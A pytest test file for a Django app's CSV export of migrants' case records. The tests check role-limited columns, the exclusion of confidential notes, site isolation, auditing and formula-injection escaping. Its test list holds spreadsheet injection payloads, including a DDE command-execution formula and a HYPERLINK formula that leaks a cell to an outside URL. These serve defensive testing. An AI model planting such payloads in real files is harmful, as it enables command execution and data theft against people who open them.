"""The people list as a CSV file: coordinators and operators only, the columns their role sees,
never a confidential note, the list page's filters, audited, and safe to open in a spreadsheet."""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django_scopes import scope

from percorsi.core.models import Membership, Site
from percorsi.people import services
from percorsi.people.choices import Sex
from percorsi.people.exports import COLUMNS, columns_for, spreadsheet_safe
from percorsi.people.models import Person
from tests.conftest import Persona
from tests.helpers import italian
from tests.people.conftest import audit_entries, url

NOTE = "Diabete: insulina due volte al giorno, non dirlo al datore"
TAX_CODE = "YSFMNA95C44Z345T"

# As an Italian user reads the headers (the interface is Italian by default).
READ_HEADERS = [
    "Numero del caso",
    "Cognome",
    "Nome",
    "Sesso",
    "Data di nascita",
    "Precisione della data di nascita",
    "Cittadinanze",
    "Telefono",
    "E-mail",
    "Stato del caso",
    "Operatore di riferimento",
    "Caso aperto il",
    "Arrivo in Italia",
    "Precisione della data di arrivo",
]
SENSITIVE_HEADERS = [
    "Codice fiscale",
    "Condizione giuridica",
    "Tipo di permesso",
    italian("permit expires on").capitalize(),
    "Rinnovo chiesto il",
]

# From the Big List of Naughty Strings (minimaxir/big-list-of-naughty-strings, MIT), plus the
# classic formulas: each would start a formula in Excel or LibreOffice.
NAUGHTY = [
    "-1E+02",
    "+0",
    '@{[system "touch /tmp/blns.fail"]}',
    "--><script>alert(123)</script>",
    "+++ATH0",
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1;"Apri")',
    "=cmd|' /C calc'!A0",
    "\t\u000b\u000c \u0085\u00a0",
    "\rcmd",
]


def csv_rows(response: Any) -> list[list[str]]:
    """The file as a spreadsheet reads it: UTF-8 with a BOM, cells separated by `;`."""
    assert response.status_code == 200, response.status_code
    assert response.content.startswith(codecs.BOM_UTF8)
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def export(client: Client, site: Site | str, **filters: str) -> Any:
    return client.post(url("export", site), filters)


@pytest.fixture
def amina(
    site_a: Site,
    make_person: Callable[..., Person],
    add_status: Callable[..., Any],
    add_note: Callable[..., Any],
    operator: Any,
) -> Person:
    person = make_person(site_a, "Amina", "Yusuf", phone="+393331234567", arrival_date=date(2021, 9, 14))
    with scope(site=site_a):
        services.person_update(
            person=person,
            actor=operator,
            version=None,
            fields={"tax_code": TAX_CODE, "email": "amina@example.org"},
        )
    add_status(person, status="asylum_seeker", valid_from=date(2021, 10, 1), expires_on=date(2022, 4, 1))
    add_status(
        person,
        status="subsidiary",
        permit_type="Protezione sussidiaria",
        valid_from=date(2023, 5, 2),
        expires_on=date(2028, 5, 1),
        renewal_requested_on=date(2028, 2, 20),
    )
    add_note(person, NOTE)
    return person


@pytest.fixture
def mamadou(site_a: Site, make_person: Callable[..., Person]) -> Person:
    return make_person(
        site_a,
        "Mamadou",
        "Diallo",
        sex="M",
        birth_date=date(1990, 1, 1),
        birth_date_precision="year",
        nationality="GN",
    )


@pytest.mark.parametrize("persona", ["operator_a", "coordinator_a"])
def test_the_export_has_every_person_and_the_sensitive_columns(
    persona: str, client_for: Callable[[str], Client], site_a: Site, amina: Person, mamadou: Person
) -> None:
    response = export(client_for(persona), site_a)

    rows = csv_rows(response)
    assert rows[0] == READ_HEADERS + SENSITIVE_HEADERS
    with translation.override("it"):
        female = str(Sex.FEMALE.label)
    people = as_dicts(rows)
    assert [p["Numero del caso"] for p in people] == [str(mamadou.pk), str(amina.pk)]  # by family name
    assert people[1] == {
        "Numero del caso": str(amina.pk),
        "Cognome": "Yusuf",
        "Nome": "Amina",
        "Sesso": female,
        "Data di nascita": "04/03/1995",
        "Precisione della data di nascita": italian("exact"),
        "Cittadinanze": "Somalia",
        # A phone in international form starts with +: kept as text, not a formula.
        "Telefono": "'+393331234567",
        "E-mail": "amina@example.org",
        "Stato del caso": italian("active"),
        "Operatore di riferimento": "Operator A",
        "Caso aperto il": timezone.localdate().strftime("%d/%m/%Y"),
        "Arrivo in Italia": "14/09/2021",
        "Precisione della data di arrivo": italian("exact"),
        "Codice fiscale": TAX_CODE,
        # The current status, not the first of the history.
        "Condizione giuridica": italian("subsidiary protection"),
        "Tipo di permesso": "Protezione sussidiaria",
        italian("permit expires on").capitalize(): "01/05/2028",
        "Rinnovo chiesto il": "20/02/2028",
    }
    # Only the year is known: the placeholder 1 January is not passed off as the birth date.
    assert people[0]["Data di nascita"] == "1990"
    assert people[0]["Precisione della data di nascita"] == italian("year only")
    assert people[0]["Condizione giuridica"] == people[0]["Codice fiscale"] == ""
    assert people[0]["Arrivo in Italia"] == people[0]["Precisione della data di arrivo"] == ""


def test_the_file_is_a_download_named_without_personal_data(
    client_for: Callable[[str], Client], site_a: Site, amina: Person
) -> None:
    response = export(client_for("operator_a"), site_a, q="Yusuf")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="persone-roma-{today}.csv"'
    assert "no-store" in response["Cache-Control"]
    assert "Yusuf" not in response["Content-Disposition"]
    assert url("export", site_a) == "/s/roma/people/export.csv"


@pytest.mark.parametrize("persona", ["operator_a", "coordinator_a"])
def test_a_confidential_note_is_never_exported(
    persona: str, client_for: Callable[[str], Client], site_a: Site, amina: Person
) -> None:
    for filters in ({}, {"q": "Yusuf"}, {"status": "active"}):
        response = export(client_for(persona), site_a, **filters)
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        assert "Yusuf" in text
        assert NOTE not in text
        assert "Diabete" not in text


def test_no_column_is_a_confidential_note() -> None:
    assert {column.permission for column in COLUMNS} == {"people:read", "people:sensitive"}
    headers = " ".join(str(column.header).lower() for column in COLUMNS)
    assert "note" not in headers


def test_without_people_sensitive_the_legal_columns_are_left_out(personas: dict[str, Persona]) -> None:
    """Should the export ever be given to a role that does not see legal details, the file follows."""
    volunteer = Membership.objects.get(user=personas["volunteer_a"].user)
    allowed = columns_for(volunteer.has)

    assert [column.permission for column in allowed] == ["people:read"] * len(READ_HEADERS)
    assert len(allowed) == len(COLUMNS) - len(SENSITIVE_HEADERS)


@pytest.mark.parametrize("persona", ["volunteer_a", "teacher_a", "accountant_a", "auditor_a", "admin_a"])
def test_other_roles_may_not_export(
    persona: str, client_for: Callable[[str], Client], site_a: Site, amina: Person
) -> None:
    response = export(client_for(persona), site_a)

    assert response.status_code == 403
    assert "Yusuf" not in response.content.decode()
    assert not audit_entries("people.person.exported")
    assert audit_entries("core.permission.denied", data__permission="people:export")


def test_the_volunteer_sees_no_export_button(
    client_for: Callable[[str], Client], site_a: Site, amina: Person
) -> None:
    export_url = url("export", site_a)
    volunteer_page = client_for("volunteer_a").get(url("list", site_a))
    operator_page = client_for("operator_a").get(url("list", site_a))

    assert volunteer_page.status_code == 200
    assert export_url not in volunteer_page.content.decode()
    assert export_url in operator_page.content.decode()
    # The teacher does not open the list at all.
    assert client_for("teacher_a").get(url("list", site_a)).status_code == 403


def test_the_button_keeps_the_filters_of_the_page(
    client_for: Callable[[str], Client], site_a: Site, amina: Person, mamadou: Person, operator: Any
) -> None:
    with scope(site=site_a):
        services.case_status_set(
            person=mamadou, actor=operator, version=None, status="suspended", since=timezone.localdate()
        )
    client = client_for("operator_a")
    page = client.get(url("list", site_a), {"q": "Diallo", "status": "suspended"}).content.decode()

    form = page.split(f'action="{url("export", site_a)}"', 1)[1].split("</form>", 1)[0]
    hidden = dict(re.findall(r'name="(q|status)" value="([^"]*)"', form))
    assert hidden == {"q": "Diallo", "status": "suspended"}
    people = as_dicts(csv_rows(export(client, site_a, **hidden)))
    assert [p["Cognome"] for p in people] == ["Diallo"]


def test_no_button_when_the_list_is_empty(client_for: Callable[[str], Client], site_a: Site) -> None:
    page = client_for("operator_a").get(url("list", site_a)).content.decode()
    assert url("export", site_a) not in page


def test_the_status_and_the_search_are_honoured(
    client_for: Callable[[str], Client],
    site_a: Site,
    amina: Person,
    mamadou: Person,
    make_person: Callable[..., Person],
    operator: Any,
) -> None:
    closed = make_person(site_a, "Awa", "Diallo", nationality="SN")
    with scope(site=site_a):
        services.case_status_set(
            person=closed,
            actor=operator,
            version=None,
            status="closed",
            since=timezone.localdate(),
            closure_reason="autonomy",
        )
    client = client_for("operator_a")

    def names(**filters: str) -> list[str]:
        return [f"{p['Nome']} {p['Cognome']}" for p in as_dicts(csv_rows(export(client, site_a, **filters)))]

    assert names() == ["Awa Diallo", "Mamadou Diallo", "Amina Yusuf"]
    assert names(status="closed") == ["Awa Diallo"]
    assert names(status="active") == ["Mamadou Diallo", "Amina Yusuf"]
    assert sorted(names(q="Diallo")) == ["Awa Diallo", "Mamadou Diallo"]
    assert names(q="Diallo", status="active") == ["Mamadou Diallo"]
    # Another spelling finds the same person, as the list page does; the tax code too.
    assert names(q="Jallow", status="active") == ["Mamadou Diallo"]
    assert names(q=TAX_CODE) == ["Amina Yusuf"]
    assert names(q="Nobody Anywhere") == []


def test_a_filter_the_list_page_would_not_send_is_refused(
    client_for: Callable[[str], Client], site_a: Site, amina: Person
) -> None:
    response = export(client_for("operator_a"), site_a, status="everything")

    assert response.status_code == 400
    assert "Yusuf" not in response.content.decode()
    assert not audit_entries("people.person.exported")


def test_only_a_post_exports(client_for: Callable[[str], Client], site_a: Site, amina: Person) -> None:
    response = client_for("operator_a").get(url("export", site_a), {"q": "Yusuf"})

    assert response.status_code == 405
    assert not audit_entries("people.person.exported")


def test_another_sites_people_never_appear(
    client_for: Callable[[str], Client],
    site_a: Site,
    site_b: Site,
    amina: Person,
    make_person: Callable[..., Person],
) -> None:
    make_person(site_b, "Yonas", "Tesfamariam", sex="M", nationality="ER")

    roma = as_dicts(csv_rows(export(client_for("operator_a"), site_a)))
    vicenza = as_dicts(csv_rows(export(client_for("operator_b"), site_b)))
    searched = as_dicts(csv_rows(export(client_for("operator_a"), site_a, q="Tesfamariam")))

    assert [p["Cognome"] for p in roma] == ["Yusuf"]
    assert [p["Cognome"] for p in vicenza] == ["Tesfamariam"]
    assert searched == []


def test_another_sites_address_is_not_found(
    client_for: Callable[[str], Client], site_a: Site, site_b: Site, amina: Person
) -> None:
    response = export(client_for("operator_b"), site_a)

    assert response.status_code == 404
    assert "Yusuf" not in response.content.decode()
    assert not audit_entries("people.person.exported")
    assert audit_entries("core.site.accessed", site_id=site_a.pk)


def test_deleted_and_merged_records_are_not_exported(
    client_for: Callable[[str], Client],
    personas: dict[str, Persona],
    site_a: Site,
    amina: Person,
    make_person: Callable[..., Person],
) -> None:
    coordinator = personas["coordinator_a"].user
    deleted = make_person(site_a, "Fatoumata", "Barry", nationality="GN")
    kept = make_person(site_a, "Ibrahima", "Sow", sex="M", nationality="SN")
    absorbed = make_person(site_a, "Ibrahim", "Sow", sex="M", nationality="SN")
    with scope(site=site_a):
        services.person_delete(person=deleted, actor=coordinator)
        services.person_merge(keep=kept, absorb=absorbed, actor=coordinator)

    for filters in ({}, {"q": "Sow"}, {"q": "Barry"}):
        people = as_dicts(csv_rows(export(client_for("coordinator_a"), site_a, **filters)))
        numbers = {p["Numero del caso"] for p in people}
        assert str(deleted.pk) not in numbers
        assert str(absorbed.pk) not in numbers
    everyone = as_dicts(csv_rows(export(client_for("coordinator_a"), site_a)))
    assert [p["Numero del caso"] for p in everyone] == [str(kept.pk), str(amina.pk)]


@pytest.mark.parametrize("naughty", NAUGHTY)
def test_a_cell_that_would_be_a_formula_is_made_text(naughty: str) -> None:
    safe = spreadsheet_safe(naughty)
    assert safe == "'" + naughty
    assert spreadsheet_safe("Diallo") == "Diallo"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-3) == -3  # numbers are ours (the case number), never a formula


def test_formulas_in_the_record_reach_the_spreadsheet_as_text(
    client_for: Callable[[str], Client],
    site_a: Site,
    make_person: Callable[..., Person],
    add_status: Callable[..., Any],
) -> None:
    for n, naughty in enumerate(NAUGHTY):
        # The intake strips names, so the strings that start with blanks go in the permit type.
        person = make_person(site_a, f"Persona{n}", naughty.strip() or "Vuoto")
        add_status(person, permit_type=naughty)

    people = as_dicts(csv_rows(export(client_for("operator_a"), site_a)))

    assert len(people) == len(NAUGHTY)
    permit_types = {p["Tipo di permesso"] for p in people}
    assert permit_types == {"'" + naughty for naughty in NAUGHTY}
    for person in people:
        for value in person.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {p["Cognome"] for p in people} >= {"'=1+1", "'+++ATH0", "'-1E+02"}


def test_each_export_is_audited_with_identifiers_only(
    client_for: Callable[[str], Client], personas: dict[str, Persona], site_a: Site, amina: Person
) -> None:
    client = client_for("operator_a")
    export(client, site_a)
    export(client, site_a, q="Yusuf", status="active")

    entries = audit_entries("people.person.exported")
    assert len(entries) == 2
    for entry in entries:
        assert entry.site_id == site_a.pk
        assert entry.actor_id == personas["operator_a"].user.pk
        assert entry.role == "operator"
        assert entry.outcome == "allowed"
        assert entry.object_type == "people.person"
    assert entries[0].data == {"rows": 1, "search": False, "status": None, "sensitive": True}
    assert entries[1].data == {"rows": 1, "search": True, "status": "active", "sensitive": True}
    assert "Yusuf" not in str(entries[1].data)


def _add_people(
    site: Site, make_person: Callable[..., Person], add_status: Callable[..., Any], count: int, start: int
) -> None:
    for n in range(start, start + count):
        person = make_person(site, f"Nome{n}", f"Cognome{n}", nationality=["GN", "SN", "ML"][n % 3])
        add_status(person, status="refugee", permit_type="Asilo", expires_on=date(2030, 1, n % 28 + 1))


@pytest.mark.parametrize("filters", [{}, {"q": "Cognome"}])
def test_the_number_of_queries_does_not_grow_with_the_people(
    filters: dict[str, str],
    client_for: Callable[[str], Client],
    site_a: Site,
    make_person: Callable[..., Person],
    add_status: Callable[..., Any],
    django_assert_max_num_queries: Callable[..., Any],
) -> None:
    client = client_for("operator_a")
    export(client, site_a)  # the session settles on its first request

    _add_people(site_a, make_person, add_status, 3, start=10)
    with CaptureQueriesContext(connection) as few:
        rows_few = csv_rows(export(client, site_a, **filters))
    _add_people(site_a, make_person, add_status, 27, start=20)
    with django_assert_max_num_queries(25), CaptureQueriesContext(connection) as many:
        rows_many = csv_rows(export(client, site_a, **filters))

    assert len(rows_many) > len(rows_few) > 1
    assert len(many.captured_queries) == len(few.captured_queries)
